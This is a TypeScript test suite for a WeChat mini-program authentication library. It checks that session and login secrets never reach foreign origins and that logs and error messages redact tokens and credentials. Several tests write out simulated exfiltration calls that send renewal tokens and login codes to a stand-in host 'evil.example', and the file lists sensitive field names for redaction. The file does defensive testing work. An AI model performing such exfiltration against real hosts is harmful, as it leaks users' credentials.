import { wechatLogin } from 'mobx-miniprogram-auth'
import type { AuthStoreOptions, Interceptor } from 'mobx-miniprogram-auth'
import { authorize } from 'mobx-miniprogram-auth/authorize'
import { logging } from 'mobx-miniprogram-auth/http/logging'
import type { LogEntry } from 'mobx-miniprogram-auth/http/logging'
import { connect } from 'mobx-miniprogram-auth/socket'
import { fail, ok } from 'mobx-miniprogram-auth/testing'
import { BASE, errorOf, heldHandler, outcome, renewWorld, useWorld, world } from '../_world'

useWorld()

const EVIL = 'https://evil.example/'
/** These values are hidden whatever their fields are called. */
const SESSION = {
  token: 'T0-secret',
  grant: { renewal: 'R0-secret/+=9' },
  name: 'Lin Wei',
  openid: 'o6_bmjrPTlm6_2sgVt',
}

function restart(store: Partial<AuthStoreOptions<Record<string, unknown>, unknown>> = {}): void {
  renewWorld({ signedIn: false, store: store as never })
}

const foreign = (): string[] =>
  world.fake.requests.map(({ url }) => url).filter((url) => url.startsWith(EVIL))

describe('S116 R16 secrets of a login or renewal are not sent to a foreign origin, even after an await', () => {
  test.each<[string, (renewal: string) => PromiseLike<unknown>]>([
    ['in the body', (renewal) => world.http.post(EVIL + 'refresh', { renewal }, { auth: 'none' })],
    [
      'in a form',
      (renewal) =>
        world.http.post(EVIL, { renewal }, { header: { 'content-type': 'x-www-form-urlencoded' } }),
    ],
    ['in the query', (renewal) => world.http.get(EVIL + 'refresh', { renewal })],
    ['in the path', (renewal) => world.http.get(EVIL + encodeURIComponent(renewal))],
    ['in a header', (renewal) => world.http.get(EVIL, {}, { header: { 'X-Renewal': 'v=' + renewal } })],
    [
      'beside a file',
      (renewal) => world.http.upload({ url: EVIL, filePath: 'a', name: 'a', formData: { renewal } }),
    ],
    [
      'by a network interceptor',
      (renewal) => {
        const away: Interceptor = (request, next) => next({ ...request, url: EVIL })
        return world.http
          .extend({ networkInterceptors: [away] })
          .post('refresh', { renewal }, { auth: 'none' })
      },
    ],
    [
      'through authorize',
      (data) =>
        new Promise((success, failed) =>
          authorize(wx.request, { auth: world.store, baseUrl: BASE, clock: world.fake.clock })({
            url: EVIL,
            method: 'POST',
            data: { data },
            success,
            fail: ({ errMsg }: { errMsg: string }) => failed(new Error(errMsg)),
          }),
        ),
    ],
    [
      'through a socket',
      (renewal) =>
        new Promise(() =>
          connect(world.http, { url: 'wss://evil.example/?renewal=' + encodeURIComponent(renewal) }),
        ),
    ],
  ])(
    'a renewal that sends a secret of the session %s to a foreign origin fails, and nothing is sent',
    async (_where, send) => {
      restart({
        refresh: async (session) => {
          await null
          await send(Object(session['grant']).renewal)
          return { token: 'T1' }
        },
      })
      world.store.setSession(SESSION)
      world.fake.server(() => ok({ token: 'theirs' }))
      const error = await errorOf(world.store.refresh())
      expect(String(error['cause' as never])).toMatch(/allowOrigins/)
      expect([foreign(), world.fake.sockets.length, world.store.token]).toEqual([[], 0, 'T0-secret'])
    },
  )

  test('a login that sends the code of wx.login or its credentials to a foreign origin fails, and nothing is sent', async () => {
    restart({
      login: async (typed: unknown) => {
        await null
        if (typed) return world.http.post(EVIL, { typed }, { auth: 'none' })
        const take = wechatLogin(async (code) => {
          await null
          return world.http.post(EVIL, { code }, { auth: 'none' })
        })
        return take()
      },
    })
    world.fake.server(() => ok({ token: 'theirs' }))
    const login = world.store.login as (typed?: unknown) => Promise<unknown>
    for (const typed of [undefined, { phone: '13800138000', sms: 4711 }, 'hunter2'])
      expect((await errorOf(login(typed))).message).toMatch(/allowOrigins/)
    expect([foreign(), world.store.isLogin]).toEqual([[], false])
  })

  test('an allowed origin gets the secret, and other requests to foreign origins are sent during a renewal', async () => {
    world.store.setSession(SESSION)
    world.fake.server(({ url }) => ok(url))
    const http = world.http.extend({ allowOrigins: ['https://id.example'] })
    expect(await outcome(http.post('https://id.example/refresh', { renewal: 'R0-secret/+=9' }))).toMatch(
      /refresh/,
    )
    const renewal = heldHandler(() => ok({ token: 'T1' }))
    world.fake.server((request) => (request.path === '/refresh' ? renewal.handler(request) : ok(request.url)))
    const refreshing = world.store.refresh()
    await world.settle()
    const user = { user: SESSION.openid, name: SESSION.name, n: 1 }
    expect(await outcome(world.http.post('https://maps.example/near', user))).toBe(
      'https://maps.example/near',
    )
    renewal.release()
    expect(await outcome(refreshing)).toMatchObject({ token: 'T1' })
  })
})

describe('S115 no trace, log entry or error contains a secret', () => {
  const tails = [
    'a?q=b c&access_token=hunter2',
    'a?q="b"&t=hunter2',
    "a?q='&t=hunter2",
    'a?x=\n&t=hunter2',
    'a?x=\u2028&t=hunter2',
  ]

  test.each(tails)('traces and log entries of a call to %j show the path without the query', async (url) => {
    const said: unknown[] = []
    world.http.observe((trace) => said.push(trace))
    const http = world.http.extend({
      interceptors: [logging({ log: (entry) => said.push(entry), clock: world.fake.clock })],
    })
    await outcome(http.get(url))
    expect(JSON.stringify(said)).not.toMatch(/hunter2/)
    expect(said).toContainEqual(expect.objectContaining({ path: '/a' }))
  })

  test.each(tails)('an error of the platform that quotes %j is shown without the query', async (url) => {
    world.fake.server(() => fail('errcode:-2 url:' + BASE + url + ' net::ERR_FAILED', 600001))
    const error = await errorOf(world.http.get('b'))
    expect(error.message).not.toMatch(/hunter2/)
    expect(error.message).toMatch(/net::ERR_FAILED/)
  })

  test('an error of the platform that quotes a header, as text or JSON, is shown without the value', async () => {
    world.store.setSession(SESSION)
    world.fake.server(({ header }) => fail('invalid header ' + JSON.stringify(header)))
    for (const header of [{}, { authorization: 'Basic hunter2' }, { Cookie: 'sid=hunter2' }])
      expect((await errorOf(world.http.get('a', {}, { header }))).message).not.toMatch(/secret|hunter2/)
    world.fake.server(({ get }) => fail('invalid header ' + String(get('Authorization') || get('cookie'))))
    for (const header of [{}, { authorization: 'Basic hunter2' }])
      expect((await errorOf(world.http.get('a', {}, { header }))).message).not.toMatch(/secret|hunter2/)
    world.fake.socketServer((socket) => socket.fail('refused: Bearer T0-secret'))
    const end = new Promise<{ error: Error | null }>((resolve) =>
      connect(world.http, { url: 'ws' }).onClose(resolve),
    )
    expect(String((await end).error)).not.toMatch(/secret/)
  })

  test('an error of the platform that quotes headers is shown without values of six characters, but with those of five', async () => {
    world.fake.server(() => fail('errcode:-2 sixsix fives', 600001))
    const call = world.http.get('a', {}, { header: { 'X-A': 'fives', 'X-B': 'sixsix' } })
    expect((await errorOf(call)).message).toBe('request:fail errcode:-2 *** fives')
  })

  test('a request interrupted in the background is sent again, also if the error of the platform quotes a URL', async () => {
    world.fake.server(() => fail('createRequestTask:fail:interrupted url ' + BASE + 'a?b=c'))
    const call = outcome(world.http.get('a'))
    await world.settle()
    world.fake.server(() => ok('there'))
    await world.fake.hide()
    await world.fake.show()
    expect(await call).toBe('there')
  })

  test('traces and log entries hide a secret of the session that is part of the path', async () => {
    world.store.setSession(SESSION)
    const said: unknown[] = []
    world.http.observe((trace) => said.push(trace))
    const log = logging({ log: (entry) => said.push(entry), clock: world.fake.clock })
    await outcome(
      world.http
        .extend({ interceptors: [log] })
        .get('revoke/T0-secret/' + encodeURIComponent('R0-secret/+=9')),
    )
    expect(JSON.stringify(said)).not.toMatch(/secret/)
  })

  describe('a log with details', () => {
    let entries: LogEntry[]
    const client = (more: object = {}) =>
      world.http.extend({
        interceptors: [
          logging({ log: (entry) => entries.push(entry), details: true, clock: world.fake.clock, ...more }),
        ],
      })
    beforeEach(() => {
      entries = []
    })

    test('hides secrets of the session by their value, whatever their fields are called', async () => {
      world.store.setSession(SESSION)
      world.fake.server(() =>
        ok({ a: 'T0-secret', list: ['R0-secret/+=9'], 'R0-secret/+=9': 1, name: 'Lin Wei' }),
      )
      await client().post('a?v=' + encodeURIComponent('R0-secret/+=9'), { renewal: 'R0-secret/+=9' })
      expect(JSON.stringify(entries)).not.toMatch(/secret/)
      expect(entries[0]?.details?.response).toMatchObject({ name: 'Lin Wei' })
    })

    test('hides a number that login() was called with', async () => {
      restart({ login: (typed: unknown) => client().post('login', { a: typed, n: 7 }, { auth: 'none' }) })
      world.fake.server(() => ok({ token: 'T0' }))
      await (world.store.login as (typed: unknown) => Promise<unknown>)(471100)
      expect(entries[0]?.details?.request).toEqual({ a: '***', n: 7 })
    })

    test('hides strings and numbers inside an object that login() was called with', async () => {
      restart({ login: (typed: unknown) => client().post('login', { a: typed }, { auth: 'none' }) })
      world.fake.server(() => ok({ token: 'T0' }))
      await (world.store.login as (typed: object) => Promise<unknown>)({ p: 'hunter2', n: 471100 })
      expect(entries).toHaveLength(1)
      expect(JSON.stringify(entries)).not.toMatch(/hunter2|4711/)
    })

    test.each([
      ['JSON', '{"token":"new-secret","name":"Lin"}', { token: '***', name: 'Lin' }],
      ['a form', 'access_token=new-secret&scope=all', { access_token: '***', scope: 'all' }],
      ['other text', 'your token is new-secret', '(24 characters)'],
      ['text with an equals sign', 'it is now t=new-secret', '(22 characters)'],
    ])('hides secrets in a text answer that contains %s', async (_what, text, shown) => {
      world.fake.server(() => ok(text, { header: { 'content-type': 'text/plain' } }))
      await client().get('a', {}, { dataType: 'text' })
      expect(entries[0]?.details?.response).toEqual(shown)
    })

    test('hides secrets in JSON texts and in URLs inside of the data', async () => {
      world.fake.server(() =>
        ok({
          raw: '{"jwt":"new-secret"}',
          next: 'https://a.example/b?ticket=new-secret',
          old: 'http://a.example/b#ticket=new-secret',
          live: 'ws://a.example/b?ticket=new-secret',
          said: 'Go on? At https://a.example/b?ticket=new-secret please',
          list: '["x"]',
        }),
      )
      await client().get('a?more=' + encodeURIComponent('{"pwd":"new-secret"}'))
      expect(JSON.stringify(entries)).not.toMatch(/secret/)
      expect(entries[0]?.details?.response).toMatchObject({
        next: 'https://a.example/b?***',
        old: 'http://a.example/b?***',
        live: 'ws://a.example/b?***',
        said: 'Go on? At https://a.example/b?***',
        list: ['x'],
      })
    })

    test.each(
      (
        'js_code jsCode pwd userPwd wxCode wx_code smsCode sms_code verifyCode verification_code validationCode captcha otp jwt ' +
        'otpCode sid connect.sid PHPSESSID JSESSIONID X-Auth pin refresh bearer'
      ).split(' '),
    )('hides the value of a field named %s', async (name) => {
      await client().post('a', { [name]: 'new-secret' })
      expect(entries[0]?.details?.request).toEqual({ [name]: '***' })
    })

    test.each(
      'hotPhotos postcode countryCode statusCode spinning inside side residence author opinion'.split(' '),
    )('shows the value of a field named %s', async (name) => {
      await client().post('a', { [name]: 'shown' })
      expect(entries[0]?.details?.request).toEqual({ [name]: 'shown' })
    })
  })
})
